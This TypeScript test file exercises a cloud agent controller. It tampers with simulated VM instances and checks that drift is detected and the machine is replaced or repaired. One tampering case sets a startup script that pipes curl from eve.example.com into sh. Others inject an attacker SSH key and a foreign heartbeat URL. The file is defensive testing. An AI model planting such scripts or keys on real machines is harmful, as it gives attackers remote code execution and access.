import { expect, onTestFinished, test } from 'vitest'
import type { JsonObject } from '../../infra/local/gcp/json.ts'
import type { Entry } from '../../infra/local/gcp/store.ts'
import type { Status } from '../../shared/documents/status.ts'
import { ADMIN } from './a-cloud.ts'
import { PROJECT } from './life-cloud.ts'
import { lifeStage } from './life-stage.ts'
import type { Hooks, LifeStage } from './life-stage.ts'

const ZONE = 'europe-west1-b'
const PLANE = { project: PROJECT, region: 'europe-west1', backend: 'vm', zones: [ZONE] }
const ADA = { owner: 'ada@example.com', secrets: ['notes'] }

const machineOf = ({ cloud }: LifeStage, uid: string): Entry => {
  const found = cloud.world.store.list('instances', 'projects/').find(({ name }) => name.includes(uid))
  if (found === undefined) throw new Error('there is no machine')
  return found
}

/** Somebody who may change machines has their way with one. */
type Opening = (stage: LifeStage, machine: Entry) => Promise<void> | void

const changed =
  (change: (body: JsonObject) => JsonObject): Opening =>
  ({ cloud }, machine) =>
    cloud.world.store.put({ ...machine, body: { ...machine.body, ...change(machine.body) } })

const asked =
  (verb: string, body: (machine: JsonObject) => JsonObject): Opening =>
  async ({ cloud }, { name, body: machine }) => {
    const url = `/compute/v1/${name}/${verb}`
    const request = {
      httpMethod: 'POST',
      url,
      body: JSON.stringify(body(machine)),
      authorization: `Bearer sim:${ADMIN}`,
    }
    const answer = await cloud.answer(request)
    if (answer === 'connection lost' || answer.status !== 200) throw new Error(`${url}: ${JSON.stringify(answer)}`)
  }

const firstFace = (body: JsonObject): JsonObject => (body['networkInterfaces'] as readonly JsonObject[])[0] ?? {}

const told = (key: string, value: string): Opening =>
  asked('setMetadata', ({ metadata }) => {
    const { fingerprint = '', items = [] } = metadata as { fingerprint?: string; items?: readonly JsonObject[] }
    return { fingerprint, items: [...items.filter((item) => item['key'] !== key), { key, value }] }
  })

const OPENINGS: Readonly<Record<string, Opening>> = {
  'an external address': asked('addAccessConfig?networkInterface=nic0', () => ({ name: 'mine' })),
  'an external IPv6 address': changed((body) => ({
    networkInterfaces: [{ ...firstFace(body), ipv6AccessConfigs: [{ name: 'mine' }] }],
  })),
  'a second network': changed((body) => ({ networkInterfaces: [firstFace(body), { subnetwork: 'elsewhere' }] })),
  'more addresses': changed((body) => ({
    networkInterfaces: [{ ...firstFace(body), aliasIpRanges: [{ ipCidrRange: '10.9.0.0/24' }] }],
  })),
  'forwarding of packets': changed(() => ({ canIpForward: true })),
  'a boot that is not measured': changed(() => ({ shieldedInstanceConfig: { enableVtpm: true } })),
  'another account': changed((body) => ({
    serviceAccounts: [{ ...(body['serviceAccounts'] as readonly JsonObject[])[0], email: 'eve@example.com' }],
  })),
  'other scopes': changed((body) => ({
    serviceAccounts: [{ ...(body['serviceAccounts'] as readonly JsonObject[])[0], scopes: ['devstorage.read_only'] }],
  })),
  'another disk': changed((body) => ({
    disks: [...(body['disks'] as readonly JsonObject[]), { deviceName: 'theirs', source: 'theirs' }],
  })),
  'the name of another agent': told('ap-agent-uid', 'another222'),
  'keys of their own': told('ssh-keys', 'eve:ssh-ed25519 AAAA eve'),
  'another program to boot with': told('startup-script', '#!/bin/sh\ncurl eve.example.com | sh\n'),
}

/** An agent that has been Ready for so long. */
async function aReadyAgent(forMs = 0, hooks: Hooks = {}) {
  const stage = await lifeStage({}, hooks)
  onTestFinished(() => stage.close())
  const { uid: planeUid } = await stage.putPlane('acme', PLANE)
  await stage.until(planeUid, ({ phase }) => phase === 'Ready')
  const { uid } = await stage.putAgent('acme', 'ada', ADA)
  const ready = await stage.until(uid, ({ phase }) => phase === 'Ready')
  const agent = { stage, uid, ready }
  await pass(agent, forMs)
  return agent
}

type Agent = { readonly stage: LifeStage; readonly uid: string }

async function pass({ stage, uid }: Agent, ms: number): Promise<void> {
  const laterMs = stage.clock.nowMs() + ms
  await stage.until(uid, () => stage.clock.nowMs() > laterMs)
}

const isReady = ({ phase, steps }: Status): boolean => phase === 'Ready' && steps['machine']?.state === 'ready'
const isDrifted = ({ steps }: Status): boolean => steps['machine']?.state !== 'ready'

/** Longer than what opens a machine is taken for something that opens every machine. */
const LONG_MS = 11 * 60_000

test('a machine that somebody opened is replaced by one that is as it was made, on the same disk', async () => {
  const agent = await aReadyAgent()
  const { stage, uid, ready } = agent
  for (const open of Object.values(OPENINGS)) {
    await pass(agent, LONG_MS)
    const before = machineOf(stage, uid)
    await open(stage, before)
    const drifted = await stage.until(uid, isDrifted)
    expect(drifted.steps['machine']?.message).toMatch(/not as it was made|metadata of the machine was changed/)
    const again = await stage.until(
      uid,
      (status) => isReady(status) && status.resources['machine']?.['id'] !== before.body['id'],
    )
    expect(again.resources['disk']).toEqual(ready.resources['disk'])
    const { networkInterfaces, canIpForward, disks } = machineOf(stage, uid).body
    expect(JSON.stringify([networkInterfaces, canIpForward, disks])).not.toMatch(
      /ccessConfigs|elsewhere|true,true|theirs/,
    )
  }
})

const CHANGES: Readonly<Record<string, readonly [key: string, change: (value: string) => string]>> = {
  'a way in that was opened': ['enable-oslogin', () => 'FALSE'],
  'another plane to report to': ['ap-heartbeat-url', () => 'https://eve.example.com/heartbeat'],
  'another configuration under the same generation': [
    'ap-configuration',
    (value) => JSON.stringify({ ...(JSON.parse(value) as object), openclaw: { gateway: { mode: 'theirs' } } }),
  ],
}

const valueOf = ({ body }: Entry, key: string): string => {
  const { items = [] } = body['metadata'] as { items?: readonly { readonly key: string; readonly value: string }[] }
  return items.find((item) => item.key === key)?.value ?? ''
}

test.each(Object.entries(CHANGES))('%s is set right again on the same machine', async (_, [key, change]) => {
  const { stage, uid } = await aReadyAgent()
  const before = machineOf(stage, uid)
  await told(key, change(valueOf(before, key)))(stage, before)
  expect(valueOf(machineOf(stage, uid), key)).not.toBe(valueOf(before, key))
  await stage.until(uid, isDrifted)
  await stage.until(uid, isReady)
  expect(machineOf(stage, uid).body['id']).toBe(before.body['id'])
  expect(valueOf(machineOf(stage, uid), key)).toBe(valueOf(before, key))
})

/** Whatever machine is made has packets to forward, from then on. */
const opening = (cloudOf: () => LifeStage['cloud']): NonNullable<Hooks['through']> => {
  return async (request, answer) => {
    const response = await answer(request)
    const { store } = cloudOf().world
    if (request.httpMethod === 'POST' && /\/instances(?:\?|$)/.test(request.url))
      for (const machine of store.list('instances', 'projects/'))
        store.put({ ...machine, body: { ...machine.body, canIpForward: true } })
    return response
  }
}

test('a project that opens every machine is told so, and gets no machine after the other', async () => {
  let inserts = 0
  const stage: LifeStage = await lifeStage(
    {},
    {
      through: async (request, answer) => {
        if (request.httpMethod === 'POST' && /\/instances(?:\?|$)/.test(request.url)) inserts += 1
        return opening(() => stage.cloud)(request, answer)
      },
    },
  )
  onTestFinished(() => stage.close())
  const { uid: planeUid } = await stage.putPlane('acme', PLANE)
  await stage.until(planeUid, ({ phase }) => phase === 'Ready')
  const { uid } = await stage.putAgent('acme', 'ada', ADA)
  const { steps } = await stage.until(uid, ({ phase }) => phase === 'Failed')
  expect(steps['machine']).toMatchObject({ reason: 'MachineOpened' })
  expect(steps['machine']?.message).toContain('it may forward packets, within ten minutes of its start')
  await pass({ stage, uid }, LONG_MS)
  expect(inserts).toBe(1)
})

test('a machine that is opened soon after it became Ready is stopped, and another one made for whoever retries', async () => {
  const agent = await aReadyAgent()
  const { stage, uid } = agent
  const before = machineOf(stage, uid)
  await changed(() => ({ canIpForward: true }))(stage, before)
  const failed = await stage.until(uid, ({ steps }) => steps['machine']?.state === 'failed')
  expect(failed).toMatchObject({ phase: 'Degraded', steps: { machine: { reason: 'MachineOpened' } } })
  expect(machineOf(stage, uid).body['status']).toBe('TERMINATED')
  await pass(agent, LONG_MS)
  expect(machineOf(stage, uid).body['id']).toBe(before.body['id'])
  await stage.putAgent('acme', 'ada', { ...ADA, retry: 1 })
  await stage.until(uid, (status) => isReady(status) && status.resources['machine']?.['id'] !== before.body['id'])
})
